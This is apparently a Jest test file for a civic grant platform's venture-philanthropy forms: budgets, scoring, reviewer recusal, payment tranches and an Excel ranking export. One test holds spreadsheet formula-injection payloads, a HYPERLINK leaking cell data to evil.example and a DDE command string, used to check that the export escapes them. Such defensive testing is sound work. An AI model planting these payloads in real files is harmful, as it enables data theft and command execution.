import { AWARD_STATUSES, TRANCHE_PAYMENTS } from '@civic/domain/venture';
import {
  checkBudgetLinesAddUp,
  checkDeclaredRelation,
  checkRubric,
  checkScoreSheet,
  checkTranchePlan,
  meritOf,
  RELATION_KINDS,
} from '@civic/domain/venture';
import dayjs from 'dayjs';
import ExcelJS from 'exceljs';
import i18next from 'i18next';
import type { Violation } from '../src/api/errors';
import { namePathOf } from '../src/common/form-violations';
import en from '../src/i18n/en.json';
import zhCN from '../src/i18n/zh-CN.json';
import {
  INITIAL_PROPOSAL,
  linesMatch,
  linesTotalFen,
  proposalFormValues,
  type ProposalFormValues,
  toProposalDto,
  toProposalViolations,
} from '../src/venture/apply/proposal-values';
import { canEvaluate, canReport, canSign } from '../src/venture/awards/tranche-rules';
import { formSchema, SAMPLE_FORM } from '@civic/domain/forms';
import { rankingSheets } from '../src/venture/call/ranking-sheets';
import { workbookOf } from '../src/venture/call/xlsx';
import {
  CALL_MAPPING,
  type CallFormValues,
  initialCallValues,
  percentsTotal,
  toCreateCallDto,
  weightsTotal,
} from '../src/venture/calls/call-form-values';
import { KIND_OF_CLAUSE, trancheLabel } from '../src/venture/labels';
import {
  toCreateReviewerDto,
  toRelationDto,
  toRelationRow,
} from '../src/venture/reviewers/reviewer-values';
import { scoreFormValues, sheetMerit, toScoreSheet } from '../src/venture/reviews/score-values';
import type {
  AwardView,
  CallView,
  ProposalView,
  RubricCriterionDto,
  TrancheView,
  VentureRankingView,
} from '../src/venture/types';

// Pure parts of the venture philanthropy pages (R17–R19), run in the `browser` Jest project.

const NAMES = { need: '需求必要性', design: '项目设计', budget: '预算合理性' };
const RUBRIC: RubricCriterionDto[] = [
  { key: 'need', name: '需求必要性', weight: 40, scaleMax: 10 },
  { key: 'design', name: '项目设计', weight: 35, scaleMax: 10 },
  { key: 'budget', name: '预算合理性', weight: 25, scaleMax: 5 },
];

describe('the call form (R17, R19)', () => {
  const initial = initialCallValues(2026, NAMES);
  const values = {
    ...initial,
    name: ' 2026 年社区公益创投 ',
    budgetYuan: '500000',
    minYuan: '20000.5',
    maxYuan: '100000',
    focusGroups: ['ELDERLY'],
    deadline: dayjs('2026-12-31T16:00:00.000Z'),
    tranches: [...initial.tranches!, { key: ' extra ', percent: 0 }].slice(0, 3),
  } as CallFormValues;

  it('starts from a rubric whose weights add up to 100 and the 50/30/20 tranches', () => {
    expect(weightsTotal(initial.rubric)).toBe(100);
    expect(checkRubric({ criteria: initial.rubric })).toEqual({ ok: true });
    expect(initial.tranches).toEqual([
      { key: 'SIGNING', percent: 50 },
      { key: 'MID_TERM', percent: 30 },
      { key: 'FINAL', percent: 20 },
    ]);
    expect(initial.ruralReservePercent).toBe(30);
  });

  it('sums the weights and shares typed so far, skipping empty ones', () => {
    expect(
      weightsTotal([{ weight: 60 }, { weight: null }, {}, { weight: 2.5 }, { weight: 30 }]),
    ).toBe(90);
    expect(percentsTotal([{ percent: 50 }, { percent: 50 }])).toBe(100);
    expect(weightsTotal(undefined)).toBe(0);
  });

  it('sends yuan as fen (R26), the deadline as an instant, and a valid rubric and plan', () => {
    const dto = toCreateCallDto(values);
    expect(dto).toMatchObject({
      name: '2026 年社区公益创投',
      budgetFen: 50_000_000,
      minFen: 2_000_050,
      maxFen: 10_000_000,
      deadline: '2026-12-31T16:00:00.000Z',
      focusGroups: ['ELDERLY'],
    });
    expect(checkRubric({ criteria: dto.rubric })).toEqual({ ok: true });
    expect(checkTranchePlan(dto.tranches)).toEqual({ ok: true });
  });

  it('puts the API violations on the fields where they are typed', () => {
    expect(namePathOf('budgetFen', CALL_MAPPING)).toEqual(['budgetYuan']);
    expect(namePathOf('maxFen', CALL_MAPPING)).toEqual(['maxYuan']);
    expect(namePathOf('rubric.1.weight', CALL_MAPPING)).toEqual(['rubric', 1, 'weight']);
    expect(namePathOf('focusGroups.2', CALL_MAPPING)).toEqual(['focusGroups']);
  });
});

describe('the proposal form (R17, R26)', () => {
  const values: ProposalFormValues = {
    ...(INITIAL_PROPOSAL as ProposalFormValues),
    title: ' “邻里守望”独居老人互助计划 ',
    summary: '每周两次探访',
    servedGroups: ['ELDERLY'],
    budgetLines: [
      { description: ' 志愿者培训 ', amountYuan: '15000' },
      { description: '探访物资', amountYuan: '25000.5' },
    ],
    requestedYuan: '40000.50',
    contactName: '李红',
    contactPhone: '13800771234',
    bankAccount: {
      accountName: '夕阳红',
      accountNumber: ' 6222 ',
      bankCode: '313',
      bankName: '北部湾银行',
    },
  };

  it('adds up the lines as they are typed, and compares them with the amount asked', () => {
    expect(linesTotalFen(values.budgetLines)).toBe(4_000_050);
    expect(linesMatch(values)).toBe(true);
    expect(linesMatch({ ...values, requestedYuan: '40000' })).toBe(false);
    expect(linesMatch({ ...values, requestedYuan: '' })).toBeUndefined();
    expect(linesMatch({ ...values, budgetLines: [{ amountYuan: '1.234' }] })).toBeUndefined();
    expect(linesTotalFen([{ amountYuan: 'abc' }, undefined, { amountYuan: '2' }])).toBe(200);
  });

  it('sends yuan as fen, the lines adding up as the domain checks them', () => {
    const dto = toProposalDto('call-1', values);
    expect(dto).toMatchObject({
      callId: 'call-1',
      title: '“邻里守望”独居老人互助计划',
      requestedFen: 4_000_050,
      budgetLines: [
        { description: '志愿者培训', amountFen: 1_500_000 },
        { description: '探访物资', amountFen: 2_500_050 },
      ],
      bankAccount: { accountNumber: '6222', bankCode: '313' },
    });
    expect(checkBudgetLinesAddUp(dto.budgetLines, dto.requestedFen)).toEqual({ ok: true });
  });

  it('brings a saved draft back in yuan', () => {
    const { callId: _callId, ...content } = toProposalDto('call-1', values);
    const saved = { ...content, id: 'p-1', callId: 'call-1', status: 'DRAFT' } as ProposalView;
    expect(proposalFormValues(saved)).toMatchObject({
      requestedYuan: '40000.50',
      budgetLines: [
        { description: '志愿者培训', amountYuan: '15000.00' },
        { description: '探访物资', amountYuan: '25000.50' },
      ],
    });
  });

  it('shows violations on amounts in yuan, and lines that do not add up on the amount asked', () => {
    const v = (field: string): Violation => ({ field, rule: 'R17', message: field });
    const fields = toProposalViolations([
      v('budgetLines.1.amountFen'),
      v('budgetLines'),
      v('requestedFen'),
      v('bankAccount.accountNumber'),
    ]).map((x) => x.field);
    expect(fields).toEqual([
      'budgetLines.1.amountYuan',
      'requestedYuan',
      'requestedYuan',
      'bankAccount.accountNumber',
    ]);
  });
});

describe('the score sheet (R17)', () => {
  it('leaves out criteria not scored, so the API refuses them on their own fields', () => {
    const sheet = toScoreSheet({ scores: { need: 8, design: null, budget: 0 }, comment: '  ' });
    expect(sheet).toEqual({ scores: { need: 8, budget: 0 } });
    const check = checkScoreSheet({ criteria: RUBRIC }, sheet.scores);
    expect(check.ok).toBe(false);
    const fields = check.ok ? [] : check.violations.map((x) => x.field);
    expect(fields).toEqual(['scores.design']);
    // The form item of a criterion is named ['scores', key]: the violation lands on it.
    expect(namePathOf(fields[0])).toEqual(['scores', 'design']);
  });

  it('starts from the reviewer’s own scores, and weighs a full sheet as the ranking will', () => {
    expect(scoreFormValues(RUBRIC, undefined, undefined)).toEqual({
      scores: { need: null, design: null, budget: null },
      comment: '',
    });
    const scores = { need: 7, design: 9, budget: 3 };
    expect(scoreFormValues(RUBRIC, scores, '好').scores).toEqual(scores);
    expect(sheetMerit(RUBRIC, scores)).toBe(meritOf({ criteria: RUBRIC }, [scores]).merit);
    expect(sheetMerit(RUBRIC, { need: 7 })).toBeUndefined();
  });
});

describe('the reviewer pool form (R18)', () => {
  it('sends ties to an organization with it, kinship with the relative, dates as days', () => {
    const dto = toCreateReviewerDto({
      userId: ' u-1 ',
      name: ' 周敏 ',
      fields: [' 养老服务 ', ''],
      relations: [
        {
          kind: 'EMPLOYEE',
          organizationId: '00000000-0000-4000-8000-000000000001',
          organizationName: ' ',
          personName: '不发送',
          from: dayjs('2019-01-01'),
          to: dayjs('2023-06-30'),
        },
        {
          kind: 'COLLATERAL_RELATIVE',
          personName: ' 王建国 ',
          generations: 3,
          from: dayjs('2000-05-01'),
        },
      ],
    });
    expect(dto).toEqual({
      userId: 'u-1',
      name: '周敏',
      fields: ['养老服务'],
      relations: [
        {
          kind: 'EMPLOYEE',
          organizationId: '00000000-0000-4000-8000-000000000001',
          from: '2019-01-01',
          to: '2023-06-30',
        },
        { kind: 'COLLATERAL_RELATIVE', personName: '王建国', generations: 3, from: '2000-05-01' },
      ],
    });
    for (const relation of dto.relations)
      expect(checkDeclaredRelation(relation)).toEqual({ ok: true });
  });

  it('sends another relation (R18 art. 16) with whom it is and what it is, nothing else', () => {
    const dto = toRelationDto({
      kind: 'OTHER',
      organizationId: '',
      organizationName: ' 阳光社区服务中心 ',
      personName: ' 张伟 ',
      description: ' 近三年为其提供审计服务 ',
      generations: 2,
      from: dayjs('2024-01-01'),
      to: null,
    });
    expect(dto).toEqual({
      kind: 'OTHER',
      organizationName: '阳光社区服务中心',
      personName: '张伟',
      description: '近三年为其提供审计服务',
      from: '2024-01-01',
    });
    expect(checkDeclaredRelation(dto)).toEqual({ ok: true });
    // The description is sent for OTHER only: a kind switched away leaves it behind.
    expect(
      toRelationDto({
        kind: 'SPOUSE',
        personName: '李',
        description: '旧说明',
        from: dayjs('2001-02-03'),
      }),
    ).not.toHaveProperty('description');
    expect(toRelationRow(dto)).toMatchObject({
      kind: 'OTHER',
      description: '近三年为其提供审计服务',
    });
    expect(KIND_OF_CLAUSE.OTHER_RELATION).toBe('OTHER');
  });

  it('names every recusal clause by the relation kind it stands for', () => {
    expect(Object.values(KIND_OF_CLAUSE).sort()).toEqual([...RELATION_KINDS].sort());
    expect(KIND_OF_CLAUSE.SPOUSE).toBe('SPOUSE');
    expect(KIND_OF_CLAUSE.EMPLOYMENT).toBe('EMPLOYEE');
    expect(toRelationDto({ kind: 'SPOUSE', personName: '李', from: dayjs('2001-02-03') })).toEqual({
      kind: 'SPOUSE',
      personName: '李',
      from: '2001-02-03',
    });
  });
});

describe('tranches (R19)', () => {
  const tranche = (position: number, milestone: TrancheView['milestone']) =>
    ({ position, milestone, key: ['SIGNING', 'MID_TERM', 'FINAL'][position] }) as TrancheView;
  const award = (...milestones: TrancheView['milestone'][]) =>
    ({ status: 'COMMITTED', tranches: milestones.map((m, i) => tranche(i, m)) }) as AwardView;

  it('signs once, then takes reports of later milestones and evaluates reported ones', () => {
    const fresh = award('PENDING', 'PENDING', 'PENDING');
    expect(canSign(fresh)).toBe(true);
    expect(canSign({ ...fresh, status: 'COMMITMENT_REFUSED' })).toBe(false);
    expect(canReport(fresh, fresh.tranches[1])).toBe(false);
    const signed = award('APPROVED', 'SUBMITTED', 'PENDING');
    expect(canSign(signed)).toBe(false);
    // the final report waits for the mid-term evaluation
    expect(signed.tranches.map((t) => canReport(signed, t))).toEqual([false, true, false]);
    expect(signed.tranches.map(canEvaluate)).toEqual([false, true, false]);
    const failed = award('APPROVED', 'FAILED', 'PENDING');
    expect(canReport(failed, failed.tranches[1])).toBe(false);
    expect(canReport(failed, failed.tranches[2])).toBe(true);
    expect(canEvaluate(failed.tranches[1])).toBe(false);
  });

  it('names the default tranches in the UI language, others by their key', () => {
    expect(trancheLabel('MID_TERM', 'zh-CN')).toBe('中期评估拨付');
    expect(trancheLabel('FINAL', 'en')).toBe('on the final evaluation');
    expect(trancheLabel('EXTRA', 'en')).toBe('EXTRA');
  });
});

describe('the ranking export (R13, R14, R17)', () => {
  const ranking = {
    callId: 'c-1',
    budgetFen: 50_000_000,
    reserveFen: 15_000_000,
    reserveUsedFen: 0,
    reserveReturnedFen: 15_000_000,
    remainingFen: 45_000_000,
    incomplete: 0,
    rows: [
      {
        proposalId: 'p-1',
        title: '邻里守望',
        organizationName: '新竹社区夕阳红志愿服务队',
        rural: false,
        requestedFen: 5_000_050,
        merit: 83.33,
        criteria: [
          { key: 'need', mean: 8.67 },
          { key: 'design', mean: 8 },
          { key: 'budget', mean: 4 },
        ],
        reviews: 3,
        bonus: 16,
        reasons: [
          {
            code: 'PUBLIC_WELFARE',
            rule: 'R13',
            points: 10,
            message: 'public welfare',
            messageZh: '公益慈善类',
          },
        ],
        rankScore: 96.66,
        rank: 1,
        outcome: 'FUNDED_FROM_GENERAL',
        held: true,
        message: 'funded from the general pool',
        messageZh: '在一般额度内获安排',
        awardable: false,
        status: 'AWARDED',
      },
    ],
  } as VentureRankingView;
  const t = i18next.createInstance();
  beforeAll(() =>
    t.init({
      lng: 'zh-CN',
      resources: { 'zh-CN': { translation: zhCN }, en: { translation: en } },
      interpolation: { escapeValue: false },
    }),
  );

  it('lists the ranking and the scores, amounts as numbers of yuan from fen', () => {
    const [list, scores] = rankingSheets(ranking, RUBRIC, t.t, true);
    expect(list.name).toBe('排名');
    expect(list.headers).toEqual([
      '排名',
      '项目名称',
      '申请组织',
      '农村组织',
      '申请金额（元）',
      '评审得分',
      '优先加分（%）',
      '加分理由',
      '排序分',
      '安排结果',
      '说明',
      '已资助',
    ]);
    expect(list.rows[0]).toEqual([
      1,
      '邻里守望',
      '新竹社区夕阳红志愿服务队',
      '否',
      50000.5,
      83.33,
      16,
      '+10 公益慈善类',
      96.66,
      '一般额度资助',
      '在一般额度内获安排',
      '是',
    ]);
    expect(scores.headers.slice(3)).toEqual([
      '评审人数',
      '需求必要性（满分 10，权重 40%）',
      '项目设计（满分 10，权重 35%）',
      '预算合理性（满分 5，权重 25%）',
      '评审得分',
    ]);
    expect(scores.rows[0].slice(3)).toEqual([3, 8.67, 8, 4, 83.33]);
    expect(list.headers).toHaveLength(list.widths.length);
  });

  it('writes them to an Excel workbook that reads back the same', async () => {
    const sheets = rankingSheets(ranking, RUBRIC, t.t, true);
    const buffer = await (await workbookOf(sheets)).xlsx.writeBuffer();
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(buffer);
    expect(read.worksheets.map((w) => w.name)).toEqual(['排名', '评分']);
    const row = read.getWorksheet('排名')!.getRow(2).values as unknown[];
    expect(row.slice(1, 6)).toEqual([1, '邻里守望', '新竹社区夕阳红志愿服务队', '否', 50000.5]);
    // issue #18: the amount is a number of yuan in a yuan format, so Excel sums it
    expect(read.getWorksheet('排名')!.getRow(2).getCell(5).numFmt).toBe('#,##0.00');
  });

  it('issue #15: writes text that would start a formula as a string with a leading quote', async () => {
    const link = '=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")';
    const hostile = {
      ...ranking,
      rows: [{ ...ranking.rows[0], title: link, organizationName: "@SUM(1)|' /C calc'!A0" }],
    } as VentureRankingView;
    const sheets = rankingSheets(hostile, RUBRIC, t.t, true);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(await (await workbookOf(sheets)).xlsx.writeBuffer());
    const row = read.getWorksheet('排名')!.getRow(2);
    expect(row.getCell(2).value).toBe(`'${link}`);
    expect(row.getCell(3).value).toBe(`'@SUM(1)|' /C calc'!A0`);
    expect(row.getCell(8).value).toBe("'+10 公益慈善类"); // a bonus reason starts with its sign
    expect([row.getCell(1).value, row.getCell(6).value]).toEqual([1, 83.33]); // numbers stay numbers
    const cells = read.worksheets.flatMap((sheet) => {
      const found: ExcelJS.Cell[] = [];
      sheet.eachRow((r) => r.eachCell((cell) => found.push(cell)));
      return found;
    });
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(String(c.value)))).toEqual([]);
  });

  it("issue #17: adds the call's questions as columns, numbers and yuan kept numeric", async () => {
    const form = formSchema(SAMPLE_FORM, { owner: 'venture-call', id: 'c-1', version: 1 });
    const answered = {
      ...ranking,
      rows: [
        {
          ...ranking.rows[0],
          answers: { volunteers: 12, plan: '=1+1', selfFunds: 123_456, venue: 'village' },
        },
      ],
    } as VentureRankingView;
    const [list] = rankingSheets(answered, RUBRIC, t.t, true, undefined, form);
    expect(list.headers.slice(12)).toEqual(SAMPLE_FORM.questions.map((q) => q.label.zh));
    expect(list.rows[0].slice(12)).toEqual([12, '=1+1', 1234.56, '', '村委会', '', '']);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(await (await workbookOf([list])).xlsx.writeBuffer());
    const row = read.getWorksheet('排名')!.getRow(2);
    expect([row.getCell(13).value, row.getCell(15).value]).toEqual([12, 1234.56]);
    expect(row.getCell(14).value).toBe("'=1+1"); // an answer is formula-safe like the rest
  });
});

describe('venture labels', () => {
  it('label every call phase, proposal, award and payment status in both languages', () => {
    const phases: CallView['phase'][] = ['OPEN', 'CLOSED', 'DRAWN', 'AWARDED'];
    expect(Object.keys(zhCN.venture.phase).sort()).toEqual([...phases].sort());
    expect(Object.keys(zhCN.venture.proposalStatus).sort()).toEqual([
      'AWARDED',
      'DRAFT',
      'NOT_AWARDED',
      'SUBMITTED',
    ]);
    expect(Object.keys(zhCN.venture.payment).sort()).toEqual([...TRANCHE_PAYMENTS].sort());
    expect(Object.keys(zhCN.venture.awardStatus).sort()).toEqual([...AWARD_STATUSES].sort());
    expect(Object.keys(en.venture.awardStatus)).toEqual(Object.keys(zhCN.venture.awardStatus));
  });
});
